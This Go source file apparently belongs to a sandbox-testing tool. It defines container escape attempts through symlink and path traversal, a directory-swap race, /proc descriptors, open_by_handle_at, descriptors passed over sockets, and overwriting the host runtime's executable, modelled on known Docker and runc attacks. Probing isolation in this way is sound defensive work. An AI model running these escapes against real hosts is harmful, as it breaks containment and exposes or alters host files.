package attempts

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

const up = "/../../../../../../../../../.."

var links = []Attempt{
	{Class: "links and races", Name: "symbolic-link", Gain: "a file of the host", try: throughLink(func(t *Target) string { return t.secret() })},
	{Class: "links and races", Name: "link-up", Gain: "a file of the host", try: throughLink(func(t *Target) string { return "." + up + t.secret() })},
	{Class: "links and races", Name: "link-to-first-root", Gain: "a file of the host", try: throughLink(func(t *Target) string { return t.first("root") + t.secret() })},
	{Class: "links and races", Name: "own-root", Gain: "a file of the host", try: func(t *Target) error { return takes("/proc/self/root" + up + t.secret()) }},
	{Class: "links and races", Name: "own-directory", Gain: "a file of the host", try: func(t *Target) error { return takes("/proc/self/cwd" + up + t.secret()) }},
	{Class: "links and races", Name: "hard-link", Gain: "a file of the host under a name of the sandbox", try: func(t *Target) error {
		return beside(t.secret(), func(name string) error {
			if err := unix.Link(t.secret(), name); err != nil {
				return err
			}
			return takes(name)
		})
	}},
	{Class: "links and races", Name: "swapped-directory", Gain: "a file of the host by a race", try: swapped},
	{Class: "links and races", Name: "any-process-root", Gain: "a file of the host", try: func(t *Target) error {
		return takesAny("/proc/[0-9]*/root", t.secret())
	}},
}

func throughLink(to func(*Target) string) func(*Target) error {
	return func(t *Target) error {
		return inTemporary(func(name string) error {
			if err := os.Symlink(to(t), name); err != nil {
				return err
			}
			return takes(name)
		})
	}
}

// beside gives a name on the file system of a path, if that exists.
func beside(path string, try func(name string) error) error {
	if _, err := os.Stat(path); err != nil {
		return err
	}
	name := filepath.Join(filepath.Dir(path), "link-"+itoa(os.Getpid()))
	defer os.Remove(name)
	return try(name)
}

// swapped changes a directory for a link and back while another thread opens a file below it.
func swapped(t *Target) error {
	return inTemporary(func(name string) error {
		dir, link := name+"-dir", name+"-link"
		if err := errors.Join(os.Mkdir(dir, 0o755), os.Symlink(t.first("root"), link), os.Symlink(dir, name)); err != nil {
			return err
		}
		var done sync.WaitGroup
		var swaps atomic.Int64
		var end atomic.Bool
		done.Go(func() {
			for i := 0; !end.Load(); i++ {
				_ = os.Remove(name + "-next")
				_ = os.Symlink([]string{dir, link}[i%2], name+"-next")
				_ = os.Rename(name+"-next", name)
				swaps.Add(1)
			}
		})
		defer done.Wait()
		defer end.Store(true)
		last := error(unix.ENOENT)
		for swaps.Load() < 500 {
			err := takes(name + t.secret())
			if err == nil {
				return nil
			}
			if !errors.Is(err, os.ErrNotExist) {
				last = err
			}
		}
		return last
	})
}

// takesAny takes a secret below any of the directories of a pattern.
func takesAny(pattern, path string) error {
	dirs, err := filepath.Glob(pattern)
	if err != nil {
		return err
	}
	last := error(absentError("there is no " + pattern))
	for _, dir := range dirs {
		if last = takes(dir + path); last == nil {
			return nil
		}
	}
	return last
}

var descriptors = []Attempt{
	{Class: "descriptors", Name: "inherited", Gain: "a file of the host", Control: "with a descriptor that it opens itself", try: inherited},
	{Class: "descriptors", Name: "any-process-descriptor", Gain: "a file of the host", try: func(t *Target) error {
		if t.Control {
			root, err := os.Open("/")
			if err != nil {
				return err
			}
			defer root.Close()
		}
		return takesAny("/proc/[0-9]*/fd/*", up+t.secret())
	}, refused: []syscall.Errno{unix.ENOTDIR}},
	{Class: "descriptors", Name: "first-descriptor", Gain: "a file that the first process has open", try: func(t *Target) error {
		_, err := os.Readlink(t.first("fd/0"))
		return err
	}},
	{Class: "descriptors", Name: "up-from-descriptor", Gain: "a file of the host", try: func(t *Target) error {
		fd, err := unix.Open("/proc/self", unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		file, err := unix.Openat(fd, "."+up+t.secret(), unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			return err
		}
		return unix.Close(file)
	}},
	{Class: "descriptors", Name: "open-by-handle", Gain: "any file of the host's file system, by its number", try: openByHandle},
	{Class: "descriptors", Name: "make-handle", Gain: "a number that stands for a file", try: func(*Target) error {
		_, _, err := unix.NameToHandleAt(unix.AT_FDCWD, "/", 0)
		return err
	}},
	{Class: "descriptors", Name: "passed-over-socket", Gain: "a descriptor that a process of the host passes on", try: func(t *Target) error { return received(t, t.Socket) }},
	{Class: "descriptors", Name: "passed-over-abstract-socket", Gain: "a descriptor that a process of the host passes on", try: func(t *Target) error { return received(t, t.Abstract) }},
	{Class: "descriptors", Name: "watch-all-files", Gain: "which files the host's programs open", try: descriptor(func() (int, error) {
		return unix.FanotifyInit(unix.FAN_CLASS_CONTENT, 0)
	})},
}

// Inherited lists the descriptors that the process had at its start, as far as they may lead to
// files.
func Inherited() (list []int) {
	for fd := 3; fd < 256; fd++ {
		to, err := os.Readlink("/proc/self/fd/" + itoa(fd))
		if err == nil && strings.HasPrefix(to, "/") {
			list = append(list, fd)
		}
	}
	return list
}

func inherited(t *Target) error {
	if t.Control {
		fd, err := unix.Open("/", unix.O_PATH, 0)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
	}
	last := error(absentError("no descriptor of a file was inherited"))
	for _, fd := range Inherited() {
		file, err := unix.Openat(fd, "."+up+t.secret(), unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err == nil {
			return unix.Close(file)
		}
		if err != unix.ENOTDIR {
			last = err
		}
	}
	return last
}

// openByHandle opens the root of a file system by its handle, as an attack on old Docker did.
func openByHandle(*Target) error {
	handle, _, err := unix.NameToHandleAt(unix.AT_FDCWD, "/tmp", 0)
	if err != nil {
		// The call can be made with a handle that was made up.
		handle = unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0})
	}
	at, err := unix.Open("/tmp", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(at)
	fd, err := unix.OpenByHandleAt(at, handle, unix.O_RDONLY|unix.O_CLOEXEC)
	if err != nil {
		return err
	}
	return unix.Close(fd)
}

// received connects to a socket of the host and takes the descriptor that is passed there.
func received(t *Target, address string) error {
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.Connect(fd, &unix.SockaddrUnix{Name: address}); err != nil {
		return refusedByNetwork(err)
	}
	control := make([]byte, unix.CmsgSpace(4))
	_, n, _, _, err := unix.Recvmsg(fd, make([]byte, 64), control, 0)
	if err != nil {
		return err
	}
	messages, err := unix.ParseSocketControlMessage(control[:n])
	if err != nil || len(messages) == 0 {
		return errors.Join(err, errors.New("connected, and no descriptor came"))
	}
	got, err := unix.ParseUnixRights(&messages[0])
	if err != nil {
		return err
	}
	defer unix.Close(got[0])
	return takes(fmt.Sprintf("/proc/self/fd/%d", got[0]))
}

// firstProgram attacks the program of the first process, as an attack on runc did: it is a file of
// the host that root starts again.
var firstProgram = []Attempt{
	{Class: "program of the first process", Name: "write-program", Gain: "a program of the host that it wrote", Control: "whose text is busy", try: func(t *Target) error {
		return busy(openFile(t.first("exe"), unix.O_WRONLY))
	}},
	{Class: "program of the first process", Name: "truncate-program", Gain: "a program of the host that is empty", Control: "whose text is busy", try: func(t *Target) error {
		return busy(unix.Truncate(t.first("exe"), 1<<30))
	}},
	{Class: "program of the first process", Name: "read-program", Gain: "a file of the host", try: func(t *Target) error { return openFile(t.first("exe"), unix.O_RDONLY) }},
	{Class: "program of the first process", Name: "write-through-path-descriptor", Gain: "a program of the host that it wrote", Control: "whose text is busy", try: func(t *Target) error {
		fd, err := unix.Open(t.first("exe"), unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		return busy(openFile(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY))
	}},
	{Class: "program of the first process", Name: "start-program", Gain: "the guest's program with arguments of its own", Control: "opens the file as one to start", try: func(t *Target) error {
		return errnoOf(unix.Syscall6(unix.SYS_FACCESSAT2, 0, uintptr(unsafe.Pointer(cString(t.first("exe")))), 1, 0, 0, 0))
	}},
}

func cString(s string) *byte {
	p, _ := unix.BytePtrFromString(s) // which fails only for a text with a zero byte
	return p
}

// busy turns the answer that a caller with rights gets for a running program into success.
func busy(err error) error {
	if errors.Is(err, syscall.ETXTBSY) {
		return nil
	}
	return err
}
